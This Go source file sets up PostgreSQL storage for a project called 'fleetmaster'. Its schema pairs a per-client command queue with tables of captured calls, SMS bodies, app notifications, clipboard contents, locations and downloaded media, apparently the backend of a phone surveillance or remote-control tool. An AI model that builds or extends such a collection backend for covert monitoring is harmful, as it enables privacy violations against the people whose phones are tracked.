package storage

import (
	"context"
	"database/sql"
	"fmt"
	"time"

	"fleetmaster/config"

	_ "github.com/jackc/pgx/v5/stdlib" // Postgres driver
)

// PostgresStore implements Store for PostgreSQL.
type PostgresStore struct {
	BaseStore
}

var _ Store = (*PostgresStore)(nil)

// NewPostgresStore creates a new PostgreSQL store.
func NewPostgresStore(cfg *config.DatabaseConfig) (*PostgresStore, error) {
	if cfg == nil {
		return nil, fmt.Errorf("database config required")
	}

	dsn := cfg.BuildDSN()
	if dsn == "" {
		return nil, fmt.Errorf("invalid database configuration: could not build DSN")
	}

	db, err := sql.Open("pgx", dsn)
	if err != nil {
		return nil, fmt.Errorf("failed to open postgres connection: %w", err)
	}

	if cfg.MaxOpenConns > 0 {
		db.SetMaxOpenConns(cfg.MaxOpenConns)
	}
	if cfg.MaxIdleConns > 0 {
		db.SetMaxIdleConns(cfg.MaxIdleConns)
	}
	if cfg.ConnMaxLifetimeSecs > 0 {
		db.SetConnMaxLifetime(time.Duration(cfg.ConnMaxLifetimeSecs) * time.Second)
	}

	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := db.PingContext(ctx); err != nil {
		db.Close()
		return nil, fmt.Errorf("failed to ping postgres: %w", err)
	}

	store := &PostgresStore{
		BaseStore: BaseStore{
			db:      db,
			dialect: &PostgresDialect{},
			dbPath:  dsn,
		},
	}

	if err := store.initSchema(); err != nil {
		db.Close()
		return nil, fmt.Errorf("failed to initialize postgres schema: %w", err)
	}

	logInfo("Opened PostgreSQL database", "host", cfg.Host, "database", cfg.Name)

	return store, nil
}

// initSchema creates the database schema for PostgreSQL.
func (s *PostgresStore) initSchema() error {
	schema := `
	CREATE TABLE IF NOT EXISTS clients (
		id BIGSERIAL PRIMARY KEY,
		client_id TEXT NOT NULL UNIQUE,
		first_seen TIMESTAMPTZ NOT NULL,
		last_seen TIMESTAMPTZ NOT NULL,
		is_online BOOLEAN NOT NULL DEFAULT FALSE,
		dynamic_data TEXT
	);

	CREATE INDEX IF NOT EXISTS idx_clients_client_id ON clients(client_id);
	CREATE INDEX IF NOT EXISTS idx_clients_is_online ON clients(is_online);

	CREATE TABLE IF NOT EXISTS command_queue (
		seq BIGSERIAL PRIMARY KEY,
		id TEXT NOT NULL,
		client_id TEXT NOT NULL,
		command_type TEXT NOT NULL,
		payload TEXT,
		queued_at TIMESTAMPTZ NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_queue_client_id ON command_queue(client_id);

	CREATE TABLE IF NOT EXISTS calls (
		id BIGSERIAL PRIMARY KEY,
		client_id TEXT NOT NULL,
		phone_no TEXT NOT NULL,
		name TEXT,
		direction TEXT,
		duration INTEGER NOT NULL DEFAULT 0,
		date TIMESTAMPTZ NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_calls_client_date ON calls(client_id, date);

	CREATE TABLE IF NOT EXISTS sms (
		id BIGSERIAL PRIMARY KEY,
		client_id TEXT NOT NULL,
		address TEXT NOT NULL,
		body TEXT,
		date TIMESTAMPTZ NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_sms_client_id ON sms(client_id);

	CREATE TABLE IF NOT EXISTS notifications (
		id BIGSERIAL PRIMARY KEY,
		client_id TEXT NOT NULL,
		app_name TEXT NOT NULL,
		title TEXT,
		content TEXT,
		post_time TIMESTAMPTZ NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_notifications_client_time ON notifications(client_id, post_time);

	CREATE TABLE IF NOT EXISTS clipboard (
		id BIGSERIAL PRIMARY KEY,
		client_id TEXT NOT NULL,
		content TEXT NOT NULL,
		captured_at TIMESTAMPTZ NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_clipboard_client_time ON clipboard(client_id, captured_at);

	CREATE TABLE IF NOT EXISTS locations (
		id BIGSERIAL PRIMARY KEY,
		client_id TEXT NOT NULL,
		latitude DOUBLE PRECISION NOT NULL,
		longitude DOUBLE PRECISION NOT NULL,
		accuracy DOUBLE PRECISION NOT NULL DEFAULT 0,
		date TIMESTAMPTZ NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_locations_client_date ON locations(client_id, date);

	CREATE TABLE IF NOT EXISTS downloads (
		id BIGSERIAL PRIMARY KEY,
		client_id TEXT NOT NULL,
		media_type TEXT NOT NULL,
		original_name TEXT NOT NULL,
		path TEXT NOT NULL,
		created_at TIMESTAMPTZ NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_downloads_client_type ON downloads(client_id, media_type);

	CREATE TABLE IF NOT EXISTS snapshots (
		client_id TEXT NOT NULL,
		section TEXT NOT NULL,
		data TEXT NOT NULL,
		updated_at TIMESTAMPTZ NOT NULL,
		PRIMARY KEY (client_id, section)
	);
	`

	if _, err := s.db.Exec(schema); err != nil {
		return fmt.Errorf("failed to create schema: %w", err)
	}
	return nil
}
